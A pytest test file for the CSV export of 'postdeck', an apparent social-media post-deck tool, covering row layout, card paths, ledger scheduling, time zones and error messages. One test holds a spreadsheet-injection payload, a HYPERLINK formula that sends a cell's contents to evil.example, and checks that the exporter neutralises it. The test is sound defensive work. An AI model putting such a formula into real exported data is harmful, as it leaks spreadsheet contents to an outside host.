from __future__ import annotations

import csv
from datetime import datetime, timezone
from pathlib import Path

import pytest
from click.testing import CliRunner

from postdeck.cli import cli
from postdeck.deck.exports import COLUMNS, export_csv
from postdeck.publish.run import scheduled_slots
from postdeck.deck.deckfile import dump_deck
from postdeck.model import Deck, Post

CAPTION = 'First line, with "quotes" and a comma.\n\nSecond paragraph 🙂 #tag'


@pytest.fixture
def deck_folder(tmp_path: Path) -> Path:
    posts = tuple(
        Post(n=n, headline=f"Headline {n}", quote=f"Quote {n}", body="Body", alt_text=f"Alt text {n}",
             captions={"instagram": f"{CAPTION} {n}", "x": f"Short {n}"}, card=f"cards/post-{n}.png")
        for n in (1, 2)
    )
    deck = Deck(title="Title", source="posts/a.txt", slug="a", posts=posts)
    folder = tmp_path / "output" / "a"
    folder.mkdir(parents=True)
    (folder / "deck.yaml").write_text(dump_deck(deck))
    return folder


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8-sig") as f:
        return list(csv.DictReader(f))


def test_one_row_per_post_and_platform(deck_folder: Path, tmp_path: Path) -> None:
    target = tmp_path / "output" / "week.csv"
    export_csv(deck_folder, target)
    rows = read_csv(target)
    assert list(rows[0]) == list(COLUMNS)
    assert [(r["post"], r["platform"]) for r in rows] == [("1", "instagram"), ("1", "x"), ("2", "instagram"), ("2", "x")]
    assert rows[0]["caption"] == f"{CAPTION} 1"  # newlines, quotes, commas and emoji survive
    assert rows[0]["card"] == "a/cards/post-1.png"  # relative to the CSV file
    assert rows[0]["alt_text"] == "Alt text 1"
    assert (rows[0]["date"], rows[0]["time"], rows[0]["timezone"], rows[0]["status"]) == ("", "", "", "")
    # The UTF-8 byte-order mark first, so Excel shows ’ and Tamil as written instead of mojibake.
    assert target.read_bytes().startswith(b"\xef\xbb\xbfdate,time,timezone,platform,caption,card,alt_text,post,status\r\n")


def test_instagram_rows_name_the_jpeg_card_when_there_is_one(deck_folder: Path, tmp_path: Path) -> None:
    (deck_folder / "cards").mkdir()
    (deck_folder / "cards" / "post-1.jpg").write_bytes(b"\xff\xd8")  # post 2 has no JPEG
    target = tmp_path / "output" / "week.csv"
    export_csv(deck_folder, target)
    cards = [(r["post"], r["platform"], r["card"]) for r in read_csv(target)]
    assert cards == [("1", "instagram", "a/cards/post-1.jpg"), ("1", "x", "a/cards/post-1.png"),
                     ("2", "instagram", "a/cards/post-2.png"), ("2", "x", "a/cards/post-2.png")]


def test_scheduled_times_come_from_the_ledger_in_local_time(deck_folder: Path, tmp_path: Path) -> None:
    ledger_mod = pytest.importorskip("postdeck.publish.ledger")
    provider = pytest.importorskip("postdeck.publish.provider")
    ledger = ledger_mod.Ledger(deck_folder.parent / "ledger.sqlite")
    channel = provider.Channel(id="ig-1", name="Clinic", platform="instagram")
    when = datetime(2026, 12, 7, 3, 30, tzinfo=timezone.utc)  # 09:00 in Kolkata (UTC+5:30)
    item = provider.Item(deck="a", key="2", channel=channel, when=when, text="caption")
    ledger.plan("postiz", item, "2026-12-07T03:30:00Z", "Asia/Kolkata")
    ledger.close()
    target = tmp_path / "week.csv"
    result = CliRunner().invoke(cli, ["export", str(deck_folder / "deck.yaml"), "--csv", str(target)])
    assert result.exit_code == 0, result.output
    assert result.output == f"{target}: 4 rows, 1 scheduled, 3 with planned dates (not scheduled yet)\n"
    rows = {(r["post"], r["platform"]): r for r in read_csv(target)}
    scheduled = rows[("2", "instagram")]
    assert (scheduled["date"], scheduled["time"], scheduled["timezone"], scheduled["status"]) == (
        "2026-12-07", "09:00", "Asia/Kolkata", "planned")
    # Post 2 goes out on X in its slot too; post 1 takes the template's next weekly slot.
    assert [rows[("2", "x")][k] for k in ("date", "time", "status")] == ["2026-12-07", "09:00", "not scheduled"]
    assert rows[("1", "instagram")]["status"] == "not scheduled" and rows[("1", "instagram")]["timezone"] == "UTC"
    assert rows[("2", "x")]["card"] == "output/a/cards/post-2.png"


def test_export_errors_are_one_line(tmp_path: Path) -> None:
    empty = tmp_path / "empty"
    empty.mkdir()
    result = CliRunner().invoke(cli, ["export", str(empty), "--csv", str(tmp_path / "x.csv")])
    assert result.exit_code == 2  # a path the command does not take: usage
    assert result.output == (f"Error: {empty}: has no deck.yaml; give a deck folder that 'postdeck build' made, "
                             "e.g. output/<slug>\n")
    assert not (tmp_path / "x.csv").exists()


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_captions_and_alt_text_never_become_formulas(tmp_path: Path, start: str) -> None:
    """OWASP CSV injection: a cell a spreadsheet would evaluate gets a leading single quote."""
    evil = f'{start}HYPERLINK("https://evil.example/?"&A1,"click")'
    post = Post(n=1, headline="H", quote="Q", body="B", alt_text=evil,
                captions={"instagram": evil, "x": "-3 tips, +2 more"}, card="cards/post-1.png")
    folder = tmp_path / "output" / "a"
    folder.mkdir(parents=True)
    (folder / "deck.yaml").write_text(dump_deck(Deck(title="T", source="posts/a.txt", slug="a", posts=(post,))))
    target = tmp_path / "out.csv"
    export_csv(folder, target)
    ig, x = read_csv(target)
    assert ig["caption"] == "'" + evil and ig["alt_text"] == "'" + evil
    assert x["caption"] == "'-3 tips, +2 more"
    for row in (ig, x):
        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values())


def test_a_zone_the_tz_database_lacks_is_a_postdeck_error_not_a_traceback(deck_folder: Path, tmp_path: Path) -> None:
    """Ledger slots are read with schedule's helpers (zone, parse_utc_z), so they fail like publish does."""
    from postdeck.errors import PostdeckError
    from postdeck.publish.ledger import Ledger
    from postdeck.publish.provider import Channel, Item

    ledger = Ledger(deck_folder.parent / "ledger.sqlite")
    item = Item(deck="a", key="1", channel=Channel(id="ig-1", name="Clinic", platform="instagram"),
                when=datetime(2026, 12, 7, 3, 30, tzinfo=timezone.utc), text="caption")
    ledger.plan("postiz", item, "2026-12-07T03:30:00Z", "Mars/Olympus")  # written by a hand or an older postdeck
    ledger.close()
    with pytest.raises(PostdeckError, match="time zone 'Mars/Olympus' is not an IANA zone"):
        export_csv(deck_folder, tmp_path / "week.csv", scheduled_slots)


def test_export_and_the_cli_take_the_ledger_default_from_ledger_py(deck_folder: Path, tmp_path: Path,
                                                                   monkeypatch: pytest.MonkeyPatch) -> None:
    from postdeck.publish import ledger as ledger_mod

    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr(ledger_mod, "DEFAULT_PATH", Path("elsewhere") / "book.sqlite")
    r = CliRunner().invoke(cli, ["status"])
    assert r.output == f"nothing scheduled yet ({Path('elsewhere') / 'book.sqlite'})\n"
    (deck_folder.parent / "book.sqlite").write_text("not a ledger")
    monkeypatch.setattr(ledger_mod, "LEDGER_NAME", "book.sqlite")  # the one name, used by export, publish and status
    r = CliRunner().invoke(cli, ["export", str(deck_folder), "--csv", str(tmp_path / "week.csv")])
    assert r.output.startswith(f"Error: {deck_folder.parent / 'book.sqlite'}: is damaged or not a postdeck ledger"), r.output
    r = CliRunner().invoke(cli, ["status", str(deck_folder)])  # status of a deck: the same ledger as export
    assert r.output.startswith(f"Error: {deck_folder.parent / 'book.sqlite'}: is damaged or not a postdeck ledger"), r.output


def test_export_plans_dates_from_start_every_and_tz(deck_folder: Path, tmp_path: Path) -> None:
    """Never scheduled: the CSV still has dates, as publish would plan them."""
    target = tmp_path / "output" / "week.csv"
    result = CliRunner().invoke(cli, ["export", str(deck_folder), "--csv", str(target), "--start", "2026-12-07T09:00",
                                      "--every", "2d", "--tz", "Asia/Kolkata"])
    assert (result.exit_code, result.output) == (0, f"{target}: 4 rows, 0 scheduled, 4 with planned dates (not "
                                                    "scheduled yet)\n")
    dated = [(r["post"], r["platform"], r["date"], r["time"], r["timezone"], r["status"]) for r in read_csv(target)]
    assert dated == [("1", "instagram", "2026-12-07", "09:00", "Asia/Kolkata", "not scheduled"),
                     ("1", "x", "2026-12-07", "09:00", "Asia/Kolkata", "not scheduled"),
                     ("2", "instagram", "2026-12-09", "09:00", "Asia/Kolkata", "not scheduled"),
                     ("2", "x", "2026-12-09", "09:00", "Asia/Kolkata", "not scheduled")]


def test_export_dates_posts_from_the_template_weekly_slots(deck_folder: Path, tmp_path: Path) -> None:
    from postdeck.deck.exports import Planning

    now = datetime(2026, 12, 7, 10, 0, tzinfo=timezone.utc)  # a Monday, after its 09:00 slot
    rows = export_csv(deck_folder, tmp_path / "w.csv", planning=Planning(now=now))
    # The default template's slots: Mon-Fri 09:00, Sat and Sun 10:00, UTC.
    assert [(r["post"], r["date"], r["time"]) for r in rows if r["platform"] == "x"] == [
        ("1", "2026-12-08", "09:00"), ("2", "2026-12-09", "09:00")]
